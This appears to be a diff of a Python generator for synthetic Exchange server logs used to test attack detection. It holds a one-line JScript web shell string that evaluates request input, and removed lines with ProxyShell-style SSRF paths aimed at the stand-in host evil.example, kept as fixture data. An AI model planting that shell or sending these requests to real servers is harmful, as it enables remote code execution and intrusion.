@@ -59,63 +59,24 @@ from bisect import bisect_right
 from pathlib import Path
 
 REPO = Path(__file__).resolve().parents[1]
-V15 = "Program Files/Microsoft/Exchange Server/V15"
-LOGS = V15 + "/Logging"
-BOM = b"\xef\xbb\xbf"
-CRLF = "\r\n"
+
+# The log formats, the host names and the attack shapes are those of the
+# end-to-end fixtures (tests/gen/make_fixtures.py): one definition for both.
+sys.path.insert(0, str(REPO / "tests" / "gen"))
+from make_fixtures import (  # noqa: E402
+    AUTODISCOVER_JSON, BOM, CRLF, EVIL, FQDN, HP_FIELDS, IIS_FIELDS, LOGS, OAB_INSTALL,
+    OWASSRF_STEM, PNS_Q, PS_EMAIL, PS_Q_EWS, PS_Q_NSPI, PS_Q_RPS, PS_RPS_CAT, RPS_FIELDS,
+    SERVER, SERVER_IP, SSRF_PREFIX, UA_ANTSWORD, UA_CHROME87, UA_CHROME92, UA_CHROME105,
+    UA_CURL, UA_EWS_BAD, UA_EWS_GOOD, UA_GOOGLEBOT, UA_NMAP, UA_NUCLEI, UA_PYREQ_26,
+    UA_PYREQ_28, UA_WINRM, UA_ZGRAB, URLHOST, V15, build_short, csv_field)
+
 KIB, MIB, GIB = 1 << 10, 1 << 20, 1 << 30
-
-# --------------------------------------------------------------------------------------
-# Field lists (as in tests/gen/make_fixtures.py)
-# --------------------------------------------------------------------------------------
-
-HP_FIELDS = [
-    "DateTime", "RequestId", "MajorVersion", "MinorVersion", "BuildVersion",
-    "RevisionVersion", "ClientRequestId", "Protocol", "UrlHost", "UrlStem",
-    "ProtocolAction", "AuthenticationType", "IsAuthenticated", "AuthenticatedUser",
-    "Organization", "AnchorMailbox", "UserAgent", "ClientIpAddress", "ServerHostName",
-    "HttpStatus", "BackEndStatus", "ErrorCode", "Method", "ProxyAction", "TargetServer",
-    "TargetServerVersion", "RoutingType", "RoutingHint", "BackEndCookie",
-    "ServerLocatorHost", "ServerLocatorLatency", "RequestBytes", "ResponseBytes",
-    "TargetOutstandingRequests", "AuthModulePerfContext", "HttpPipelineLatency",
-    "CalculateTargetBackEndLatency", "GlsLatencyBreakup", "TotalGlsLatency",
-    "AccountForestLatencyBreakup", "TotalAccountForestLatency",
-    "ResourceForestLatencyBreakup", "TotalResourceForestLatency", "ADLatency",
-    "SharedCacheLatencyBreakup", "TotalSharedCacheLatency", "ActivityContextLifeTime",
-    "ModuleToHandlerSwitchingLatency", "ClientReqStreamLatency", "BackendReqInitLatency",
-    "BackendReqStreamLatency", "BackendProcessingLatency", "BackendRespInitLatency",
-    "BackendRespStreamLatency", "ClientRespStreamLatency", "KerberosAuthHeaderLatency",
-    "HandlerCompletionLatency", "RequestHandlerLatency", "HandlerToModuleSwitchingLatency",
-    "ProxyTime", "CoreLatency", "RoutingLatency", "HttpProxyOverhead", "TotalRequestTime",
-    "RouteRefresherLatency", "UrlQuery", "BackEndGenericInfo", "GenericInfo",
-    "GenericErrors", "EdgeTraceId", "DatabaseGuid", "UserADObjectGuid",
-    "PartitionEndpointLookupLatency", "RoutingStatus",
-]
-assert len(HP_FIELDS) == 74
-
-RPS_FIELDS = [
-    "DateTime", "StartTime", "RequestId", "MajorVersion", "MinorVersion", "BuildVersion",
-    "RevisionVersion", "ClientRequestId", "UrlHost", "UrlStem", "AuthenticationType",
-    "IsAuthenticated", "AuthenticatedUser", "Organization", "ManagedOrganization",
-    "ClientIpAddress", "ServerHostName", "FrontEndServer", "HttpStatus", "SubStatus",
-    "ErrorCode", "Action", "CommandId", "CommandName", "SessionId", "ShellId", "FailFast",
-    "ContributeToFailFast", "RequestBytes", "ClientInfo", "CPU", "Memory",
-    "ActivityContextLifeTime", "TotalTime", "UrlQuery", "GenericLatency", "GenericInfo",
-    "GenericErrors",
-]
-
-IIS_FIELDS = ("date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip "
-              "cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken")
 
 # --------------------------------------------------------------------------------------
 # The synthetic world
 # --------------------------------------------------------------------------------------
 
-SERVER = "EXCH01"
-FQDN = "EXCH01.corp.example.com"
 FQDN2 = "EXCH02.corp.example.com"
-URLHOST = "mail.corp.example.com"
-SERVER_IP = "10.10.0.25"
 SERVER2_IP = "10.10.0.26"
 LB_IPS = ["10.10.0.2", "10.10.0.3"]
 DOMAIN = "corp.example.com"
@@ -130,8 +91,6 @@ MAX_DAYS = 14
 MIB_PER_DAY = 512 * (1 << 20)   # a day of this server's logs: 2G covers 4 days, 7G a fortnight
 
 OAB_GUID = "5f3a0b3e-7c21-4d8e-9b0a-3e6f1c2d4a57"
-OAB_INSTALL = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\"
-SSRF_PREFIX = "ServerInfo~a]@" + FQDN + ":444"
 CHAIN = {
     "autodiscover": "/autodiscover/autodiscover.xml?#",
     "emsmdb": "/mapi/emsmdb/?#",
@@ -145,36 +104,11 @@ CHAIN = {
 SHELL_SCRIPT = ('<script language="JScript" runat="server">'
                 'function Page_Load(){eval(Request["%s"],"unsafe");}</script>')
 
-EVIL = "evil.example"
-AUTODISCOVER_JSON = "/autodiscover/autodiscover.json"
-PS_EMAIL = "&Email=autodiscover/autodiscover.json%3F@" + EVIL
-PS_RPS_CAT = "VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTBFhZG1pbkBjb3JwLmV4YW1wbGU="
-PS_Q_NSPI = "@%s/mapi/nspi/?%s" % (EVIL, PS_EMAIL)
-PS_Q_RPS = "@%s/powershell/?X-Rps-CAT=%s%s" % (EVIL, PS_RPS_CAT, PS_EMAIL)
-PS_Q_EWS = "@%s/EWS/exchange.asmx?%s" % (EVIL, PS_EMAIL)
-PNS_Q = "@%s/powershell/" % EVIL
-OWASSRF_STEM = "/owa/mastermailbox@outlook.com/powershell"
 
 # attackers' and scanners' user agents (none is a published IOC user agent)
-UA_CHROME87 = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
-               "(KHTML, like Gecko) Chrome/87.0.4280.88 Safari/537.36")
-UA_CHROME92 = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
-               "(KHTML, like Gecko) Chrome/92.0.4515.131 Safari/537.36")
-UA_CHROME105 = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
-                "(KHTML, like Gecko) Chrome/105.0.5195.54 Safari/537.36")
-UA_PYREQ_26 = "python-requests/2.26.0"
-UA_PYREQ_28 = "python-requests/2.28.1"
-UA_CURL = "curl/7.79.1"
-UA_NMAP = "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"
-UA_ZGRAB = "Mozilla/5.0 zgrab/0.x"
-UA_NUCLEI = ("Mozilla/5.0 (compatible; Nuclei - Open-source project "
-             "(github.com/projectdiscovery/nuclei))")
 UA_CENSYS = "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)"
 UA_NESSUS = "Mozilla/5.0 (compatible; Nessus)"
 # published attacker user agents (data/ioc-uas.tsv): IOC-002 plants only
-UA_ANTSWORD = "antSword/v2.1"
-UA_EWS_BAD = "ExchangeServicesClient/0.0.0.0"
-UA_GOOGLEBOT = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
 UA_PYREQ_25 = "python-requests/2.25.1"
 
 # ordinary clients, March 2023
@@ -208,8 +142,6 @@ UA_DEVICES = [  # (DeviceType, user agent) for Exchange ActiveSync
     ("SAMSUNGSMG991B", "SAMSUNG-SM-G991B/101.300"),
     ("SAMSUNGSMS908B", "Samsung-SM-S908B/101.300"),
 ]
-UA_EWS_GOOD = "ExchangeServicesClient/15.00.0913.015"
-UA_WINRM = "Microsoft WinRM Client"
 UA_AMPROBE = "AMProbe/Local/ClientAccess"
 UA_MSRPC = "MSRPC"
 UA_CRAWLERS = ["Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
@@ -253,19 +185,8 @@ PROBE_CMDLETS = ["Get-ExchangeServer", "Test-ActiveSyncConnectivity", "Get-Mailb
 # --------------------------------------------------------------------------------------
 
 
-def csv_field(v):
-    v = "" if v is None else str(v)
-    if any(c in v for c in ',"\r\n'):
-        return '"' + v.replace('"', '""') + '"'
-    return v
-
-
 def build_parts(build):
     return tuple(int(p) for p in build.split("."))
-
-
-def build_short(build):
-    return ".".join(str(p) for p in build_parts(build))
 
 
 def build_cols(build):
